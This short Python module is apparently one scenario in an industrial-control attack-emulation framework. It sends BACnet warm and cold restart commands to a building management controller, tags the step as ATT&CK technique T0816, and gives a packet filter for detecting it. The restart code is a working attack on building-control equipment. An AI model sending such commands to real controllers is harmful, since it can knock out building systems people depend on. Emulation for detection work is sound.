"""The building controller is told to restart."""

from __future__ import annotations

import contextlib

from bacpypes3.apdu import ErrorRejectAbortNack, ReinitializeDeviceRequest
from bacpypes3.pdu import Address

from ..clients.hmi_bacnet import workstation
from ..node import Node

TITLE = "BACnet ReinitializeDevice, warm and cold, by a new client"
TECHNIQUES = ("T0816",)
ORIGIN = "laptop"
ENTITIES = ("laptop", "bms-hall")
EVIDENCE = "bacapp.confirmed_service == 20 && ip.src == 10.20.1.99"


async def run(node: Node) -> None:
    """A warm start, then a cold start."""
    application = workstation(node, 4_000_003, "TOOL")
    for state in ("warmstart", "coldstart"):
        request = ReinitializeDeviceRequest(
            reinitializedStateOfDevice=state, destination=Address(node.peer("bms-hall"))
        )
        with contextlib.suppress(ErrorRejectAbortNack):
            await application.request(request)
        node.pause(1.0)
    application.close()
